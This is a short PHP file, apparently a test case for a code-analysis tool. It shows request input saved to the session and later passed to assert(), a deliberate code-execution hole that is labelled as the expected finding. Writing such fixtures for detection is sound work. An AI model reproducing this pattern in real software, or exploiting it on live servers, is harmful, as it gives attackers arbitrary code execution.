<?php
// The session fed from the request on one request, run on another.
// want: php_request_code_exec
session_start();
if (isset($_POST['code'])) {
    $_SESSION['code'] = $_POST['code'];
}
if (isset($_SESSION['code'])) {
    assert($_SESSION['code']);
}
